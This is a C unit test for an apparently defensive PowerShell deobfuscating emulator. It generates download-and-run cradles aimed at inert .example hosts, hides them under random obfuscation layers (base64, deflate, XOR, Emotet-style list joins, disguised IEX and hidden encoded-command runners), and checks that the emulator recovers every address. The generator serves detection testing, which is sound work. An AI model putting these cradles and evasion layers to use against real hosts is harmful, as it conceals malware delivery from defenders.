/* test_obfuscated.c - scripts with a known address, hidden by layers stacked at random: at least
 * 99 % of the addresses are found, none is invented, and it takes little time.
 *
 * The scripts are inert: their hosts end in .example. With a number as argument the program shows
 * the script of that seed. */
#include "command/command.h"

#include "base/enc.h"
#include "base/utf.h"
#include "powershell/powershell.h"
#include "support/script_watch.h"

#include <stdint.h>
#include <time.h>
#define ZLIB_CONST
#include <zlib.h>

/* clang-format off */
#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>
/* clang-format on */

#define SEEDS      3000u
#define SCRIPT_MAX 60000u
#define EXPR_DEPTH 3u
#define MS_MAX     50.0

struct maker {
    uint64_t state;
    struct hn_buf before; /* statements that an expression needs */
    uint32_t names;
};

static uint32_t pick(struct maker *m, uint32_t below)
{
    m->state ^= m->state << 13;
    m->state ^= m->state >> 7;
    m->state ^= m->state << 17;
    return (uint32_t)((m->state >> 33) % below);
}

static struct hn_buf buf_of(const char *text)
{
    struct hn_buf buf = { 0 };

    hn_buf_add_cstr(&buf, text);
    return buf;
}

static void quoted(struct hn_buf *out, struct hn_text text)
{
    hn_buf_add_char(out, '\'');
    for (size_t i = 0; i < text.len; i++) {
        if (text.ptr[i] == '\'')
            hn_buf_add_char(out, '\'');
        hn_buf_add_char(out, text.ptr[i]);
    }
    hn_buf_add_char(out, '\'');
}

static void base64(struct hn_buf *out, struct hn_text bytes)
{
    hn_buf_add_char(out, '\'');
    hn_base64_encode(out, hn_text_as_bytes(bytes));
    hn_buf_add_char(out, '\'');
}

/* Words in any mixture of cases. */
static void mixed(struct maker *m, struct hn_buf *out, const char *word)
{
    for (; *word != '\0'; word++) {
        bool letter = (*word | 0x20) >= 'a' && (*word | 0x20) <= 'z';

        hn_buf_add_char(out, letter && pick(m, 2) != 0 ? (char)(*word ^ 0x20) : *word);
    }
}

static void numbers(struct hn_buf *out, struct hn_text text, const char *format, uint32_t key)
{
    for (size_t i = 0; i < text.len; i++) {
        if (i > 0)
            hn_buf_add_char(out, ',');
        if (strcmp(format, "x") == 0)
            hn_buf_addf(out, "0x%x", ((uint8_t)text.ptr[i] ^ key));
        else
            hn_buf_addf(out, "%u", ((uint8_t)text.ptr[i] ^ key));
    }
}

static void expression(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth);

/* ---- Ways to write a text ---- */

static void way_concat(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    hn_buf_add_char(out, '(');
    for (size_t at = 0; at < text.len;) {
        size_t len = 1 + pick(m, (uint32_t)(text.len < 12 ? 4 : text.len / 3));

        if (at > 0)
            hn_buf_add_char(out, '+');
        expression(m, out, hn_text_sub(text, at, len), depth);
        at += len;
    }
    hn_buf_add_char(out, ')');
}

static void way_format(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    size_t third = text.len / 3;
    struct hn_text parts[3] = { hn_text_sub(text, 0, third), hn_text_sub(text, third, third),
        hn_text_sub(text, 2 * third, SIZE_MAX) };
    static const char *const orders[] = { "{2}{0}{1}", "{1}{2}{0}", "{0}{2}{1}", "{2}{1}{0}" };
    const char *order = orders[pick(m, 4)];

    hn_buf_addf(out, "(\"%s\"-f", order);
    for (int i = '0'; i < '3'; i++) {
        size_t place = 0;

        while (place < 2 && order[place * 3 + 1] != i)
            place++;
        if (i > '0')
            hn_buf_add_char(out, ',');
        expression(m, out, parts[place], depth);
    }
    hn_buf_add_char(out, ')');
}

static void way_reverse(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    struct hn_buf back = { 0 };
    uint32_t form = pick(m, 3);

    (void)depth;
    for (size_t i = text.len; i > 0; i--)
        hn_buf_add_char(&back, text.ptr[i - 1]);
    if (form == 0) {
        hn_buf_add_char(out, '(');
        quoted(out, hn_buf_text(&back));
        hn_buf_addf(out, "[-1..-%zu]-join'')", text.len);
    } else if (form == 1) {
        hn_buf_add_lit(out, "(-join([regex]::Matches(");
        quoted(out, hn_buf_text(&back));
        hn_buf_add_lit(out, ",'(?s).','RightToLeft')|%{$_.Value}))");
    } else {
        uint32_t name = m->names++;

        hn_buf_addf(&m->before, "$v%u=", name);
        quoted(&m->before, hn_buf_text(&back));
        hn_buf_addf(&m->before, ".ToCharArray();[array]::Reverse($v%u);\n", name);
        hn_buf_addf(out, "(-join $v%u)", name);
    }
    hn_buf_deinit(&back);
}

static void way_chars(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    (void)depth;
    switch (pick(m, 3)) {
    case 0:
        hn_buf_add_lit(out, "((");
        numbers(out, text, "d", 0);
        hn_buf_add_lit(out, "|");
        mixed(m, out, "%{[char]$_}");
        hn_buf_add_lit(out, ")-join'')");
        return;
    case 1:
        hn_buf_add_lit(out, "(-join[char[]](");
        numbers(out, text, "x", 0);
        hn_buf_add_lit(out, "))");
        return;
    default:
        hn_buf_add_lit(out, "('");
        for (size_t i = 0; i < text.len; i++)
            hn_buf_addf(out, i > 0 ? "-%x" : "%x", (uint8_t)text.ptr[i]);
        hn_buf_add_lit(out, "'.Split('-')|ForEach-Object{[char][convert]::ToInt32($_,16)})-join''");
        return;
    }
}

static void way_chars_in_parentheses(
        struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    hn_buf_add_char(out, '(');
    way_chars(m, out, text, depth);
    hn_buf_add_char(out, ')');
}

static void way_xor(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    uint32_t key = 1 + pick(m, 120);

    (void)depth;
    hn_buf_add_lit(out, "((");
    numbers(out, text, "d", key);
    hn_buf_addf(out, "|%%{[char]($_ -bxor %u)})-join'')", key);
}

static void way_base64(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    struct hn_buf wide = { 0 };
    bool unicode = pick(m, 2) != 0;

    (void)depth;
    hn_buf_add_char(out, '(');
    mixed(m, out, unicode ? "[Text.Encoding]::Unicode" : "[System.Text.Encoding]::UTF8");
    mixed(m, out, ".GetString([Convert]::FromBase64String(");
    if (unicode)
        hn_utf8_to_utf16le(&wide, text);
    else
        hn_buf_add_text(&wide, text);
    base64(out, hn_buf_text(&wide));
    hn_buf_add_lit(out, ")))");
    hn_buf_deinit(&wide);
}

static void way_deflate(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    static uint8_t packed[SCRIPT_MAX * 2];
    z_stream stream = { .next_in = (const Bytef *)text.ptr,
        .avail_in = (uInt)text.len,
        .next_out = packed,
        .avail_out = sizeof packed };
    bool gzip = pick(m, 2) != 0;

    (void)depth;
    assert_int_equal(
            deflateInit2(&stream, 9, Z_DEFLATED, gzip ? 31 : -15, 8, Z_DEFAULT_STRATEGY), Z_OK);
    assert_int_equal(deflate(&stream, Z_FINISH), Z_STREAM_END);
    hn_buf_addf(out,
            "((New-Object IO.StreamReader((New-Object IO.Compression.%s([IO.MemoryStream]"
            "[Convert]::FromBase64String(",
            gzip ? "GzipStream" : "DeflateStream");
    base64(out, hn_text_of((const char *)packed, stream.total_out));
    hn_buf_add_lit(out, "),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII))."
                        "ReadToEnd())");
    (void)deflateEnd(&stream);
}

/* Whether the text is what is left without the marks. */
static bool comes_out(struct hn_text noisy, const char *mark, struct hn_text text)
{
    struct hn_buf left = { 0 };
    size_t len = strlen(mark);
    bool same;

    for (size_t i = 0; i < noisy.len;) {
        if (hn_text_starts(hn_text_sub(noisy, i, SIZE_MAX), hn_text_cstr(mark)))
            i += len;
        else
            hn_buf_add_char(&left, noisy.ptr[i++]);
    }
    same = hn_text_eq(hn_buf_text(&left), text);
    hn_buf_deinit(&left);
    return same;
}

/* A mark that is not in the text, put between its characters. */
static void way_replace(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    static const char *const marks[] = { "QzQ", "~!~", "##", "kWk" };
    const char *mark = marks[pick(m, 4)];
    struct hn_buf noisy = { 0 };

    (void)depth;
    if (hn_text_find_nocase(text, hn_text_cstr(mark), 0) != SIZE_MAX) {
        quoted(out, text);
        return;
    }
    for (size_t i = 0; i < text.len; i++) {
        if (pick(m, 4) == 0)
            hn_buf_add_cstr(&noisy, mark);
        hn_buf_add_char(&noisy, text.ptr[i]);
    }
    if (!comes_out(hn_buf_text(&noisy), mark, text)) { /* the mark came about by itself, too */
        quoted(out, text);
        hn_buf_deinit(&noisy);
        return;
    }
    hn_buf_add_char(out, '(');
    quoted(out, hn_buf_text(&noisy));
    if (pick(m, 2) != 0)
        hn_buf_addf(out, ".Replace('%s',''))", mark);
    else
        hn_buf_addf(out, " -creplace '%s','')", mark);
    hn_buf_deinit(&noisy);
}

static void way_split(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    (void)m;
    (void)depth;
    if (hn_text_find_char(text, '%', 0) != SIZE_MAX) {
        quoted(out, text);
        return;
    }
    hn_buf_add_lit(out, "(('");
    for (size_t i = 0; i < text.len; i++) {
        hn_buf_add_char(out, text.ptr[i]);
        if (text.ptr[i] == '\'')
            hn_buf_add_char(out, '\'');
        if (i % 3 == 2)
            hn_buf_add_char(out, '%');
    }
    hn_buf_add_lit(out, "' -split '%')-join'')");
}

/* As Emotet did in December 2020: a list made longer, joined in a loop. */
static void way_list(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    uint32_t name = m->names++;

    hn_buf_addf(&m->before, "$l%u=@();\n", name);
    for (size_t at = 0; at < text.len;) {
        size_t len = 1 + pick(m, (uint32_t)(3 + text.len / 8));
        struct hn_buf piece = { 0 };

        expression(m, &piece, hn_text_sub(text, at, len), depth);
        hn_buf_addf(&m->before, "$l%u+=", name);
        hn_buf_add_text(&m->before, hn_buf_text(&piece));
        hn_buf_add_lit(&m->before, ";\n");
        hn_buf_deinit(&piece);
        at += len;
    }
    hn_buf_addf(&m->before, "$s%u='';foreach($i%u in $l%u){$s%u+=$i%u};\n", name, name, name, name,
            name);
    hn_buf_addf(out, "$s%u", name);
}

static void way_variable(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    uint32_t name = m->names++;
    struct hn_buf value = { 0 };

    expression(m, &value, text, depth);
    switch (pick(m, 3)) {
    case 0:
        hn_buf_addf(&m->before, "${v %u}=", name);
        hn_buf_add_text(&m->before, hn_buf_text(&value));
        hn_buf_addf(out, "${v %u}", name);
        break;
    case 1:
        hn_buf_addf(&m->before, "Set-Variable -Name w%u -Value (", name);
        hn_buf_add_text(&m->before, hn_buf_text(&value));
        hn_buf_add_char(&m->before, ')');
        hn_buf_addf(out, "(gv w%u).Value", name);
        break;
    default:
        hn_buf_addf(&m->before, "$env:e%u=", name);
        hn_buf_add_text(&m->before, hn_buf_text(&value));
        hn_buf_addf(out, "$env:e%u", name);
        break;
    }
    hn_buf_add_lit(&m->before, "\n");
    hn_buf_deinit(&value);
}

static void way_function(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    uint32_t name = m->names++;

    (void)depth;
    hn_buf_addf(&m->before,
            "function f%u($a,$k){$o='';for($i=0;$i -lt "
            "$a.Count;$i++){$o+=[char]($a[$i]-$k)};return $o}\n",
            name);
    hn_buf_addf(out, "(f%u (", name);
    for (size_t i = 0; i < text.len; i++)
        hn_buf_addf(out, i > 0 ? ",%u" : "%u", (uint8_t)text.ptr[i] + 7u);
    hn_buf_add_lit(out, ") 7)");
}

static void way_index(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    char letters[256] = { 0 };
    size_t count = 0;

    (void)m;
    (void)depth;
    for (size_t i = 0; i < text.len; i++)
        if (memchr(letters, text.ptr[i], count) == NULL)
            letters[count++] = text.ptr[i];
    hn_buf_add_char(out, '(');
    quoted(out, hn_text_of(letters, count));
    hn_buf_add_char(out, '[');
    for (size_t i = 0; i < text.len; i++)
        hn_buf_addf(out, i > 0 ? ",%zu" : "%zu",
                (size_t)((const char *)memchr(letters, text.ptr[i], count) - letters));
    hn_buf_add_lit(out, "]-join'')");
}

typedef void way_fn(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth);

static void expression(struct maker *m, struct hn_buf *out, struct hn_text text, uint32_t depth)
{
    static way_fn *const ways[] = { way_concat, way_format, way_reverse, way_chars_in_parentheses,
        way_xor, way_base64, way_deflate, way_replace, way_split, way_list, way_variable,
        way_function, way_index };
    static way_fn *const cheap[] = { way_concat, way_format, way_reverse, way_base64, way_deflate,
        way_replace, way_split, way_variable };

    if (text.len == 0 || depth == 0)
        quoted(out, text);
    else if (text.len > 800)
        cheap[pick(m, sizeof cheap / sizeof cheap[0])](m, out, text, depth - 1);
    else
        ways[pick(m, sizeof ways / sizeof ways[0])](m, out, text, depth - 1);
}

/* ---- Scripts ---- */

static void download(struct maker *m, struct hn_buf *out, struct hn_text url)
{
    struct hn_buf value = { 0 };

    expression(m, &value, url, EXPR_DEPTH);
    hn_buf_add_text(out, hn_buf_text(&m->before));
    hn_buf_reset(&m->before);
    switch (pick(m, 4)) {
    case 0:
        mixed(m, out, "(New-Object Net.WebClient).DownloadString(");
        break;
    case 1:
        hn_buf_add_lit(out, "(&('new'+'-ob'+'ject') nEt.weBclIent).\"dO`wnloAd`File\"(");
        break;
    case 2:
        mixed(m, out, "Invoke-WebRequest -UseBasicParsing -Uri (");
        break;
    default:
        mixed(m, out, "$w=New-Object System.Net.WebClient;$w.DownloadData(");
        break;
    }
    hn_buf_add_text(out, hn_buf_text(&value));
    hn_buf_add_lit(out, ")\n");
    hn_buf_deinit(&value);
}

/* The script as a text that another one runs. */
static void wrap(struct maker *m, struct hn_buf *script)
{
    static const char *const runners[] = { "iex (%s)", "(%s)|IEX",
        "&($ShellId[1]+$ShellId[13]+'x')(%s)", ".($env:ComSpec[4,15,25]-join'')(%s)",
        "&((gv '*mdr*').Name[3,11,2]-join'')(%s)", "&([scriptblock]::Create((%s)))",
        "Invoke-Expression -Command (%s)", "$ExecutionContext.InvokeCommand.InvokeScript((%s))" };
    struct hn_buf value = { 0 };
    struct hn_buf made = { 0 };
    const char *runner;

    if (pick(m, 6) == 0) {
        struct hn_buf wide = { 0 };

        hn_utf8_to_utf16le(&wide, hn_buf_text(script));
        hn_buf_add_lit(&made, "powershell -nop -w hidden -eNc ");
        hn_base64_encode(&made, hn_text_as_bytes(hn_buf_text(&wide)));
        hn_buf_deinit(&wide);
    } else {
        runner = runners[pick(m, sizeof runners / sizeof runners[0])];
        expression(m, &value, hn_buf_text(script), 2);
        hn_buf_add_text(&made, hn_buf_text(&m->before));
        hn_buf_reset(&m->before);
        for (; *runner != '\0'; runner++) {
            if (*runner == '%' && runner[1] == 's') {
                hn_buf_add_text(&made, hn_buf_text(&value));
                runner++;
            } else {
                hn_buf_add_char(&made, *runner);
            }
        }
    }
    hn_buf_deinit(&value);
    hn_buf_deinit(script);
    *script = made;
}

/* One script; its address in url. */
static struct hn_buf make(uint64_t seed, struct hn_buf *url)
{
    struct maker m = { .state = seed * 0x9E3779B97F4A7C15u + 1 };
    struct hn_buf script = buf_of("");
    uint32_t layers = 0;
    uint32_t part[5];

    for (int i = 0; i < 16; i++)
        (void)pick(&m, 2);
    for (size_t i = 0; i < 5; i++) /* compilers differ in the order of arguments */
        part[i] = pick(&m, i == 2 || i == 3 ? 26 : 1000);
    hn_buf_addf(url, "http://h%u.example/%u/%c%c.php?id=%u", part[0], part[1],
            (char)('a' + part[2]), (char)('A' + part[3]), part[4]);
    download(&m, &script, hn_buf_text(url));
    layers = pick(&m, 4);
    for (uint32_t i = 0; i < layers && script.len < SCRIPT_MAX / 6; i++)
        wrap(&m, &script);
    hn_buf_deinit(&m.before);
    return script;
}

static double now_ms(void)
{
    struct timespec now;

    (void)clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &now);
    return (double)now.tv_sec * 1e3 + (double)now.tv_nsec / 1e6;
}

/* 1: told; *ret_invented counts other requests. */
static bool found_by(const struct watch *watch, struct hn_text url, uint32_t *ret_invented)
{
    struct hn_text rest = hn_buf_text(&watch->out);
    struct hn_text line;
    bool found = false;
    struct hn_buf wanted = { 0 };

    hn_buf_add_lit(&wanted, "act http_request Url=");
    hn_buf_add_text(&wanted, url);
    hn_buf_add_lit(&wanted, "|Method=GET");
    while (hn_text_line(&rest, &line)) {
        if (!hn_text_starts(line, HN_TEXT("act http_request")))
            continue;
        if (hn_text_eq(line, hn_buf_text(&wanted)))
            found = true;
        else
            ++*ret_invented;
    }
    hn_buf_deinit(&wanted);
    return found;
}

static int compare(const void *a, const void *b)
{
    double x = *(const double *)a;
    double y = *(const double *)b;

    return x < y ? -1 : x > y;
}

static void addresses_are_found_and_none_invented(void **state)
{
    static double times[SEEDS];
    uint32_t found = 0;
    uint32_t invented = 0;

    (void)state;
    for (uint32_t seed = 0; seed < SEEDS; seed++) {
        struct hn_buf url = { 0 };
        struct hn_buf script = make(seed, &url);
        struct watch watch = { .evaluate = powershell_evaluate, .evaluate_line = command_evaluate };
        double started = now_ms();
        bool good;

        watch_run(&watch, SCRIPT_POWERSHELL, hn_buf_text(&script), NULL);
        times[seed] = now_ms() - started;
        good = found_by(&watch, hn_buf_text(&url), &invented);
        if (!good)
            print_error("seed %u: %.*s not found\n", seed, HN_TEXT_ARG(hn_buf_text(&url)));
        found += good;
        hn_buf_deinit(&watch.out);
        hn_buf_deinit(&script);
        hn_buf_deinit(&url);
    }
    qsort(times, SEEDS, sizeof times[0], compare);
    print_message("%u of %u found, %u invented; ms: median %.2f, p99 %.2f, longest %.2f\n", found,
            SEEDS, invented, times[SEEDS / 2], times[(size_t)SEEDS / 100 * 99], times[SEEDS - 1]);
    assert_true(found * 100 >= SEEDS * 99);
    assert_int_equal(invented, 0);
#if defined(__OPTIMIZE__) && !defined(__SANITIZE_ADDRESS__)
    assert_true(times[(size_t)SEEDS / 100 * 99] < MS_MAX);
#endif
}

static int show(uint64_t seed)
{
    struct hn_buf url = { 0 };
    struct hn_buf script = make(seed, &url);
    struct watch watch = { .evaluate = powershell_evaluate, .evaluate_line = command_evaluate };

    (void)printf("%.*s\n%.*s\n----\n", HN_TEXT_ARG(hn_buf_text(&url)),
            HN_TEXT_ARG(hn_buf_text(&script)));
    watch_run(&watch, SCRIPT_POWERSHELL, hn_buf_text(&script), NULL);
    (void)fwrite(watch.out.ptr, 1, watch.out.len, stdout);
    hn_buf_deinit(&watch.out);
    hn_buf_deinit(&script);
    hn_buf_deinit(&url);
    return 0;
}

int main(int argc, char **argv)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(addresses_are_found_and_none_invented) };

    if (argc > 1)
        return show(strtoull(argv[1], NULL, 10));
    return cmocka_run_group_tests(tests, NULL, NULL);
}
